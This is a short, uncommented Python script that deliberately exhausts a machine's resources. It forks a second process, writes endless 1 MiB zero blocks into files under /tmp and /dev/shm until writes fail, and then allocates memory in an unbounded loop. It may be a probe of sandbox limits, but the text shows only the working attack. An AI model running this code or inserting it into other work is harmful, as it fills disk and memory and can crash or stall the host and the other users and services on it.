import os

try:
    with open("/proc/self/oom_score_adj", "w") as file:
        file.write("0")
except PermissionError:
    pass
os.fork()
held = []
for directory in ("/tmp", "/dev/shm"):
    try:
        with open(f"{directory}/{os.getpid()}", "wb") as file:
            while True:
                file.write(bytes(1 << 20))
    except OSError:
        pass
while True:
    held.append(bytearray(50_000))
